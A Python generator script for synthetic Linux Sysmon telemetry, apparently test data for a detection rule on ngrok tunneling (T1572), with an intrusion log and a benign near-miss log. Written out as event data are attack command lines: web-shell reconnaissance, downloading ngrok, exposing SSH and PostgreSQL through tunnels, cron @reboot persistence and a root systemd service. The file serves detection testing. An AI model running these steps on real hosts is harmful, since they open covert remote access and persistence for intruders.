"""Regenerate the synthetic ngrok attack data (T1572) bundled with escudo.

Run from the repository root::

    python src/escudo/data/attack_data/generate_ngrok.py

It rewrites ``datasets/attack_techniques/T1572/ngrok/ngrok_linux-sysmon.log`` (an intrusion) and
``ngrok_linux-sysmon-benign.log`` (near misses that must not fire "Linux Ngrok Reverse Proxy Usage").
The story and the command lines follow ``../shared/reference/linux-telemetry.md`` section 5.2
(ngrok download, authtoken, ``tcp 22``/``http``, ``service install --config``, cron ``@reboot``).
Public addresses are documentation ranges (RFC 5737), tokens are made up. Output is deterministic.
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from sysmon_writer import Host, merge

OUT = Path(__file__).parent / "datasets" / "attack_techniques" / "T1572" / "ngrok"
NGROK_URL = "https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-linux-amd64.tgz"
TOKEN = "2hV9rT0cQ4mW8zYbN1pLxK7sDfG_5eJuRnC2aZqWvT8yHkM3xPb"
EQUINOX_IP, NGROK_EDGE_IP = "198.51.100.23", "198.51.100.77"
SH, BASH, CURL, TAR = "/usr/bin/dash", "/usr/bin/bash", "/usr/bin/curl", "/usr/bin/tar"


def web_02() -> Host:
    """Web server: web shell as www-data -> ngrok http/tcp, then alice -> root -> ngrok service."""
    h = Host("web-02", guid_prefix="5a3c91d2", sysmon_pid=812, first_record=48213)
    systemd = h.existing(pid=1, image="/usr/lib/systemd/systemd", cmdline="/sbin/init", user="root")
    cron = h.existing(pid=701, image="/usr/sbin/cron", cmdline="/usr/sbin/cron -f -P", user="root")
    sshd = h.existing(
        pid=912, image="/usr/sbin/sshd",
        cmdline="sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", user="root",
    )  # fmt: skip
    fpm = h.existing(
        pid=1187, image="/usr/sbin/php-fpm8.1", cmdline="php-fpm: pool www", user="www-data",
        cwd="/var/www/html",
    )  # fmt: skip

    # 09:55 ordinary: the sysstat cron job (its command line carries '>' and '&&').
    job = h.exec(cron, "/usr/sbin/cron", "/usr/sbin/CRON -f -P", at=0.1)
    sa = h.exec(job, SH, "/bin/sh -c command -v debian-sa1 > /dev/null && debian-sa1 1 1", at=0.2)
    h.exec(
        sa,
        "/usr/lib/sysstat/sadc",
        "/usr/lib/sysstat/sadc -F -L -S DISK 1 1 /var/log/sysstat",
        at=0.3,
    )

    # 09:58 alice logs in over ssh and does routine admin work.
    priv = h.exec(sshd, "/usr/sbin/sshd", "sshd: alice [priv]", at=180.0, login_uid=1001, session=4)
    pts = h.exec(priv, "/usr/sbin/sshd", "sshd: alice@pts/0", at=180.6, user="alice")
    sh_alice = h.exec(pts, BASH, "-bash", at=180.7, cwd="/home/alice")
    sudo = h.exec(sh_alice, "/usr/bin/sudo", "sudo apt-get update", at=195.2)
    apt = h.exec(sudo, "/usr/bin/apt-get", "apt-get update", at=197.9, user="root")
    meth = h.exec(
        apt, "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", at=198.1, user="_apt"
    )
    h.connect(meth, at=198.2, src="10.20.1.12", sport=51544, dst="185.125.190.36", dport=80)
    h.exec(sh_alice, "/usr/bin/systemctl", "systemctl status nginx", at=221.4)
    h.exec(sh_alice, "/usr/bin/ls", "ls -la /var/www/html", at=230.0)
    h.exec(sh_alice, "/usr/bin/ps", "ps aux --sort=-%mem", at=236.8)
    h.exec(sh_alice, "/usr/bin/df", "df -h", at=240.3)

    # 10:14 the web shell (uploads/thumb.php) runs commands as www-data through php-fpm.
    t = 1173.0
    for i, cmd in enumerate(("id", "uname -a", "cat /etc/os-release")):
        s = h.exec(fpm, SH, f"sh -c {cmd}", at=t + 9 * i)
        img = {"id": "/usr/bin/id", "uname -a": "/usr/bin/uname"}.get(cmd, "/usr/bin/cat")
        h.exec(s, img, cmd, at=t + 9 * i + 0.004)
    s = h.exec(fpm, SH, f"sh -c cd /tmp && curl -sSL {NGROK_URL} -o /tmp/ngrok.tgz", at=1221.5)
    curl = h.exec(s, CURL, f"curl -sSL {NGROK_URL} -o /tmp/ngrok.tgz", at=1221.51, cwd="/tmp")
    h.connect(curl, at=1221.6, src="10.20.1.12", sport=40118, dst=EQUINOX_IP, dport=443)
    h.file_create(curl, "/tmp/ngrok.tgz", at=1221.9)
    h.terminate(curl, at=1224.2)
    s = h.exec(fpm, SH, "sh -c tar -xzf /tmp/ngrok.tgz -C /tmp", at=1240.0)
    tar = h.exec(s, TAR, "tar -xzf /tmp/ngrok.tgz -C /tmp", at=1240.004)
    h.exec(tar, "/usr/bin/gzip", "gzip -d", at=1240.01)
    h.file_create(tar, "/tmp/ngrok", at=1240.3)
    s = h.exec(fpm, SH, "sh -c chmod +x /tmp/ngrok", at=1251.0)
    h.exec(s, "/usr/bin/chmod", "chmod +x /tmp/ngrok", at=1251.004)
    s = h.exec(fpm, SH, f"sh -c /tmp/ngrok config add-authtoken {TOKEN}", at=1266.2)
    ng = h.exec(s, "/tmp/ngrok", f"/tmp/ngrok config add-authtoken {TOKEN}", at=1266.21)
    h.file_create(ng, "/var/www/.config/ngrok/ngrok.yml", at=1266.3)
    s = h.exec(fpm, SH, "sh -c /tmp/ngrok http 8080 --log=stdout > /dev/null 2>&1 &", at=1282.0)
    ng = h.exec(s, "/tmp/ngrok", "/tmp/ngrok http 8080 --log=stdout", at=1282.01)
    h.connect(ng, at=1282.4, src="10.20.1.12", sport=40352, dst=NGROK_EDGE_IP, dport=443)
    s = h.exec(fpm, SH, "sh -c curl -s http://127.0.0.1:4040/api/tunnels", at=1290.1)
    c = h.exec(s, CURL, "curl -s http://127.0.0.1:4040/api/tunnels", at=1290.11)
    h.connect(c, at=1290.12, src="127.0.0.1", sport=53870, dst="127.0.0.1", dport=4040)
    s = h.exec(fpm, SH, "sh -c /tmp/ngrok tcp 22 --log=stdout > /dev/null 2>&1 &", at=1312.7)
    ng = h.exec(s, "/tmp/ngrok", "/tmp/ngrok tcp 22 --log=stdout", at=1312.71)
    h.connect(ng, at=1313.0, src="10.20.1.12", sport=40366, dst=NGROK_EDGE_IP, dport=443)
    # cron persistence for www-data: sh's own line mentions "tcp" but sh is not ngrok.
    cron_line = (
        '(crontab -l 2>/dev/null; echo "@reboot /tmp/ngrok tcp 22 --log=stdout") | crontab -'
    )
    s = h.exec(fpm, SH, f"sh -c {cron_line}", at=1330.0)
    h.exec(s, "/usr/bin/crontab", "crontab -l", at=1330.01)
    ct = h.exec(s, "/usr/bin/crontab", "crontab -", at=1330.02)
    h.file_create(ct, "/var/spool/cron/crontabs/tmp.Qf3kZp", at=1330.05)

    # 10:19 the attacker reuses alice's password through the tunnel (sshd sees 127.0.0.1).
    priv = h.exec(
        sshd, "/usr/sbin/sshd", "sshd: alice [priv]", at=1451.0, login_uid=1001, session=7
    )
    pts = h.exec(priv, "/usr/sbin/sshd", "sshd: alice@pts/1", at=1451.5, user="alice")
    sh_a = h.exec(pts, BASH, "-bash", at=1451.6, cwd="/home/alice")
    h.exec(sh_a, "/usr/bin/id", "id", at=1460.2)
    sudo = h.exec(sh_a, "/usr/bin/sudo", "sudo -i", at=1466.0)
    root = h.exec(sudo, BASH, "-bash", at=1468.4, user="root", cwd="/root")
    cp = h.exec(root, "/usr/bin/cp", "cp /tmp/ngrok /usr/local/bin/ngrok", at=1490.0)
    h.file_create(cp, "/usr/local/bin/ngrok", at=1490.05)
    ng = h.exec(root, "/usr/local/bin/ngrok", f"ngrok authtoken {TOKEN}", at=1502.3)
    h.file_create(ng, "/root/.config/ngrok/ngrok.yml", at=1502.4)
    cp = h.exec(root, "/usr/bin/cp", "cp /root/.config/ngrok/ngrok.yml /etc/ngrok.yml", at=1519.9)
    h.file_create(cp, "/etc/ngrok.yml", at=1519.95)
    ng = h.exec(
        root, "/usr/local/bin/ngrok", "ngrok service install --config /etc/ngrok.yml", at=1540.0
    )
    h.file_create(ng, "/etc/systemd/system/ngrok.service", at=1540.2)
    h.exec(root, "/usr/local/bin/ngrok", "ngrok service start --config /etc/ngrok.yml", at=1547.5)
    svc = h.exec(
        systemd, "/usr/local/bin/ngrok", "/usr/local/bin/ngrok service run --config /etc/ngrok.yml",
        at=1547.7, user="root", cwd="/", login_uid=4294967295, session=4294967295,
    )  # fmt: skip
    h.connect(svc, at=1548.1, src="10.20.1.12", sport=40402, dst=NGROK_EDGE_IP, dport=443)
    h.exec(root, "/usr/bin/systemctl", "systemctl is-enabled ngrok", at=1556.0)
    h.exec(sh_a, "/usr/bin/ssh", "ssh alice@10.20.1.31", at=1601.0)

    # 10:30 ordinary: the daily cron run.
    job = h.exec(cron, "/usr/sbin/cron", "/usr/sbin/CRON -f -P", at=2100.0)
    d = h.exec(
        job,
        SH,
        "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
        at=2100.1,
    )
    h.exec(d, "/usr/bin/run-parts", "run-parts --report /etc/cron.daily", at=2100.2)
    return h


def db_01() -> Host:
    """Database server: alice (the attacker) arrives over ssh and exposes PostgreSQL with ngrok."""
    h = Host("db-01", guid_prefix="c17e04b9", sysmon_pid=790, first_record=221904)
    cron = h.existing(pid=688, image="/usr/sbin/cron", cmdline="/usr/sbin/cron -f -P", user="root")
    sshd = h.existing(
        pid=874, image="/usr/sbin/sshd",
        cmdline="sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", user="root",
    )  # fmt: skip
    job = h.exec(cron, "/usr/sbin/cron", "/usr/sbin/CRON -f -P", at=300.0)
    b = h.exec(
        job,
        SH,
        "/bin/sh -c /usr/local/bin/pg_backup.sh >> /var/log/pg_backup.log 2>&1",
        at=300.1,
        user="postgres",
    )
    h.exec(b, "/usr/bin/pg_dump", "pg_dump -Fc appdb -f /var/backups/pg/appdb.dump", at=300.3)

    priv = h.exec(
        sshd, "/usr/sbin/sshd", "sshd: alice [priv]", at=1602.0, login_uid=1001, session=3
    )
    pts = h.exec(priv, "/usr/sbin/sshd", "sshd: alice@pts/0", at=1602.4, user="alice")
    sh_a = h.exec(pts, BASH, "-bash", at=1602.5, cwd="/home/alice")
    h.exec(sh_a, "/usr/bin/ss", "ss -tlnp", at=1611.0)
    curl = h.exec(sh_a, CURL, f"curl -sSL {NGROK_URL} -o /tmp/ngrok.tgz", at=1623.0)
    h.connect(curl, at=1623.1, src="10.20.1.31", sport=38810, dst=EQUINOX_IP, dport=443)
    h.file_create(curl, "/tmp/ngrok.tgz", at=1623.5)
    tar = h.exec(sh_a, TAR, "tar -xzf /tmp/ngrok.tgz -C /tmp", at=1631.0)
    h.exec(tar, "/usr/bin/gzip", "gzip -d", at=1631.01)
    h.file_create(tar, "/tmp/ngrok", at=1631.2)
    ng = h.exec(sh_a, "/tmp/ngrok", f"/tmp/ngrok config add-authtoken {TOKEN}", at=1642.0)
    h.file_create(ng, "/home/alice/.config/ngrok/ngrok.yml", at=1642.1)
    ng = h.exec(sh_a, "/tmp/ngrok", "./ngrok tcp 5432 --log=stdout", at=1650.0, cwd="/tmp")
    h.connect(ng, at=1650.3, src="10.20.1.31", sport=38822, dst=NGROK_EDGE_IP, dport=443)
    h.exec(sh_a, "/usr/bin/rm", "rm -f /tmp/ngrok.tgz", at=1662.0)
    return h


def benign() -> Host:
    """A developer box and near misses: ngrok-related text, but no ngrok tunnel or token."""
    h = Host("dev-07", guid_prefix="8e21f6a0", sysmon_pid=655, first_record=3310)
    login = h.existing(
        pid=2211, image=BASH, cmdline="-bash", user="alice", cwd="/home/alice", login_uid=1001,
        session=2,
    )  # fmt: skip
    steps: list[tuple[str, str]] = [
        (CURL, f"curl -O {NGROK_URL}"),
        (TAR, "tar -xzf ngrok-v3-stable-linux-amd64.tgz"),
        ("/usr/bin/sudo", "sudo mv ngrok /usr/local/bin/"),
        ("/usr/local/bin/ngrok", "ngrok version"),
        ("/usr/local/bin/ngrok", "ngrok help"),
        ("/usr/local/bin/ngrok", "ngrok --help"),
        ("/usr/local/bin/ngrok", "ngrok"),
        ("/usr/local/bin/ngrok", "ngrok config check"),
        ("/usr/local/bin/ngrok", "ngrok update"),
        ("/usr/local/bin/ngrok", "ngrok diagnose"),
        ("/usr/local/bin/ngrok-agent", "ngrok-agent http 80"),
        ("/usr/bin/grep", "grep ngrok /var/log/syslog"),
        ("/usr/bin/grep", "grep -r authtoken /home/alice/.config/ngrok"),
        # ngrok is not on this PATH for sh: dash prints "ngrok: not found" and execs nothing.
        (SH, "sh -c ngrok http 80"),
        ("/usr/bin/vim.basic", "vim /home/alice/.config/ngrok/ngrok.yml"),
        ("/usr/bin/python3.10", "/usr/bin/python3 -m http.server 8000"),
        ("/usr/bin/apt-cache", "apt-cache policy ngrok"),
    ]
    t = 60.0
    for image, cmdline in steps:
        p = h.exec(login, image, cmdline, at=t)
        if image == CURL:
            h.connect(p, at=t + 0.1, src="192.168.56.21", sport=49812, dst=EQUINOX_IP, dport=443)
            h.file_create(p, "/home/alice/ngrok-v3-stable-linux-amd64.tgz", at=t + 0.2)
        t += 17.5
    return h


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    attack = merge(web_02(), db_01())
    (OUT / "ngrok_linux-sysmon.log").write_text("\n".join(attack) + "\n", encoding="utf-8")
    quiet = merge(benign())
    (OUT / "ngrok_linux-sysmon-benign.log").write_text("\n".join(quiet) + "\n", encoding="utf-8")
    print(f"wrote {len(attack)} + {len(quiet)} events to {OUT}")


if __name__ == "__main__":
    main()
